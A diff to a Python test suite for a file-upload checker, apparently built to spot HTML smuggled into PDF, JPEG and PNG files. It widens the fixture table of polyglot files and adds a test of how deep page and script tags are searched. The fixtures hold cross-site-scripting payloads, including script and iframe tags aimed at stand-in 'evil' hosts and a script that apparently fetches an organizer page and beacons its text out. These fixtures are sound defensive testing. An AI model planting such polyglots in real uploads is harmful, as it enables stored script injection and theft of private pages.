@@ -61,12 +61,13 @@ PAYLOAD = b"<script>fetch('/organizer/').then(r=>r.text()).then(t=>navigator.sen
 POLYGLOTS = {
     "pdf, html page in its first bytes": PDF_HEAD + b"%<html><body>" + PAYLOAD + b"\n1 0 obj\n<<>>\nendobj\n%%EOF\n",
     "pdf, doctype after the end marker": pdf_with_text(b"Report", True) + b"\n<!DOCTYPE html>\n<p>hi</p>",
-    "pdf, script deep inside a stream": pdf_with_text(b"x" * 5000 + b"<ScRiPt src=//evil>", False),
+    "pdf, script deep inside a stream": pdf_with_text(b"x" * 100_000 + b"<ScRiPt src=//evil>", False),
     "jpeg, script in a comment segment": encoded(noise_image((32, 32), 3), "JPEG", comment=PAYLOAD),
     "jpeg, page after the image": JPEG + b"<html>" + PAYLOAD + b"</html>",
     "jpeg, iframe after the header": JPEG[:2] + b"\xff\xfe\x00\x20<iframe src=//evil.example>" + JPEG[2:],
     "png, iframe in a text chunk": png_with_text("<IFRAME/src=//evil>"),
-    "png, body after IEND": PNG + b"<body onload=alert(1)>",
+    "png, body after a small image": PNG + b"<body onload=alert(1)>",
+    "jpeg, iframe after a megabyte": encoded(noise_image((800, 600), 5), "JPEG") + b"<iframe src=//evil>",
     "png, head in a private chunk": PNG[:33] + png_chunk(b"prVt", b"<head><title>x") + PNG[33:],
     "pdf, utf-16le html": PDF_HEAD + "<html><script>alert(1)</script>".encode("utf-16-le"),
     "pdf, utf-16be html": PDF_HEAD + b"\x00" + "<!doctype\thtml>".encode("utf-16-be"),
@@ -92,6 +93,14 @@ def test_the_first_tag_is_named_whatever_its_case_or_encoding():
 ])
 def test_what_is_not_a_tag_to_a_browser_is_not_taken_for_one(near_miss):
     assert html_marker(b"%PDF-1.4\n" + near_miss) is None
+
+
+def test_page_tags_count_in_the_first_64_kb_and_code_tags_anywhere():
+    padding = b"%PDF-1.7\n" + b"x" * (64 * 1024)
+    assert html_marker(b"%PDF-1.7\n" + b"x" * 60_000 + b"<body onload=alert(1)>") == "<body"
+    assert html_marker(padding + b"<body onload=alert(1)>") is None
+    assert html_marker(padding + b"<HTML><BODY onload=alert(1)><SCRIPT>") == "<script"
+    assert html_marker(padding + "<iframe/src=x>".encode("utf-16-le")) == "<iframe"
 
 
 # --------------------------------------------------------------------------- real files accepted
